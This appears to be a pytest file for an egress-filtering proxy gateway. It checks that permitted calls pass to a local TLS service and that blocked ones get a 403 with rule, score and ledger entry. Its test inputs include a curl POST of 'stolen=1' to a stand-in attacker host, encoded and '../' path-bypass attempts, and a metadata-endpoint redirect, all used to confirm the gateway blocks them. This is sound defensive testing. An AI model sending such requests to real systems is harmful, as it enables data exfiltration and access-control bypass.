"""The main job on real input: allowed calls reach a TLS service, forbidden ones are refused with a reason."""

from __future__ import annotations

import json
import socket
import ssl
import time
from typing import TYPE_CHECKING

from ledger.verify import verify
from tests.gateways import Gateway, curl

if TYPE_CHECKING:
    from tests.services import Service


def test_an_allowed_call_reaches_the_service_and_is_two_entries(gateway: Gateway, service: Service) -> None:
    answer = curl(gateway, f"{service.url}/hello?token=zyxwv")
    assert answer.status == 200
    verdict = gateway.wait_for("flow.verdict", path="/hello")
    assert verdict["verdict"] == "allow"
    assert verdict["host"] == "localhost"
    assert verdict["query_keys"] == ["token"]
    assert "zyxwv" not in str(verdict)
    end = gateway.wait_for("flow.end", flow=verdict["flow"])
    assert end["status"] == 200
    assert end["verdict_entry"] == verdict["seq"]


def test_http_1_and_http_2_both_pass(gateway: Gateway, service: Service) -> None:
    for version in ("--http1.1", "--http2"):
        assert curl(gateway, f"{service.url}/v", version).status == 200


def test_a_forbidden_host_is_refused_with_a_problem_body_that_names_rule_score_band_and_entry(
    gateway: Gateway,
) -> None:
    answer = curl(gateway, "https://evil-hacker.com/collect", "-d", "stolen=1")
    assert answer.status == 403
    problem = answer.problem
    assert problem["aegis"]["rule"] == "egress.domain"
    assert problem["aegis"]["band"] == "HIGH"
    assert problem["aegis"]["score"] >= 70
    assert "allowedDomains" in problem["aegis"]["remedy"]
    entry = gateway.wait_for("flow.verdict", seq=problem["aegis"]["entry"])
    assert entry["rule"] == "egress.domain"
    assert entry["verdict"] == "block"
    assert entry["policy"].startswith("sha256:")
    assert answer.headers["aegis-verdict"].startswith("block; score=")


def test_method_and_path_are_judged(gateway: Gateway, service: Service) -> None:
    before = len(service.requests)
    assert curl(gateway, f"{service.url}/x", "-X", "DELETE").rule == "policy.method"
    assert curl(gateway, f"{service.url}/admin/users").rule == "policy.path"
    assert curl(gateway, f"{service.url}/%61dmin/users", "--path-as-is").rule == "policy.path"
    assert curl(gateway, f"{service.url}/x/../admin/", "--path-as-is").rule == "policy.path"
    assert len(service.requests) == before


def test_plain_http_is_judged_alike(gateway: Gateway, plain_service: Service) -> None:
    assert curl(gateway, f"{plain_service.url}/plain").status == 200
    assert curl(gateway, "http://evil-hacker.com/").rule == "egress.domain"


def test_proxy_credentials_never_leave_the_gateway(gateway: Gateway, plain_service: Service) -> None:
    answer = curl(gateway, f"{plain_service.url}/", "--proxy-user", "builder:hunter2")
    assert answer.status == 200
    assert b"proxy-authorization" not in answer.body
    assert b"hunter2" not in answer.body


def test_bodies_reach_the_service_unchanged(gateway: Gateway, service: Service) -> None:
    upload = gateway.home.path / "upload"
    upload.write_bytes(b"x" * 200_000)
    answer = curl(gateway, f"{service.url}/upload", "--data-binary", f"@{upload}")
    assert answer.status == 200
    assert service.bodies[-1] == b"x" * 200_000


def test_a_redirect_to_the_metadata_service_is_refused_at_the_second_request(
    gateway: Gateway, service: Service
) -> None:
    answer = curl(gateway, f"{service.url}/redirect-metadata", "-L")
    assert answer.rule == "egress.metadata-endpoint"
    assert answer.problem["aegis"]["score"] == 74


def test_a_live_stream_is_not_buffered(gateway: Gateway, service: Service) -> None:
    connection = socket.create_connection(("127.0.0.1", gateway.port))
    context = ssl.create_default_context(cafile=str(gateway.home.ca))
    try:
        connection.sendall(f"CONNECT localhost:{service.port} HTTP/1.1\r\n\r\n".encode())
        assert b"200" in connection.recv(4096)
        with context.wrap_socket(connection, server_hostname="localhost") as tls:
            host = f"localhost:{service.port}"
            tls.sendall(f"GET /stream HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            started = time.monotonic()
            received = b""
            while b"data: 0" not in received:
                received += tls.recv(4096)
            assert time.monotonic() - started < 0.35, "the first event waited for the last"
    finally:
        connection.close()


def test_a_gzip_response_passes_and_a_response_nobody_can_decode_is_withheld(
    gateway: Gateway, service: Service
) -> None:
    assert curl(gateway, f"{service.url}/gzip", "--compressed").body == b'{"ok": true}'
    answer = curl(gateway, f"{service.url}/unknown-encoding")
    assert answer.rule == "decode.unknown-encoding"
    assert b"????" not in answer.body


def test_the_service_is_never_asked_for_what_client_or_gateway_cannot_decode(
    gateway: Gateway, service: Service
) -> None:
    for offered, asked in (("gzip", "gzip"), ("sdch, gzip;q=0.5, x-rot13", "gzip;q=0.5"), ("*", "identity")):
        answer = curl(gateway, f"{service.url}/", "-H", f"Accept-Encoding: {offered}")
        assert json.loads(answer.body)["headers"]["accept-encoding"] == asked


def test_a_large_download_passes(gateway: Gateway, service: Service) -> None:
    assert len(curl(gateway, f"{service.url}/large").body) == 8 * 1024 * 1024


def test_an_unused_tunnel_is_an_entry(gateway: Gateway) -> None:
    untrusting = curl(gateway, "https://localhost:443/", "--cacert", "/dev/null")
    assert untrusting.status == 0
    gateway.wait_for("tunnel.unused", host="localhost", port=443)


def test_the_chain_is_intact_afterwards(gateway: Gateway) -> None:
    report = verify(gateway.home.database)
    assert report.is_intact, report.reason
    assert report.entries > 10
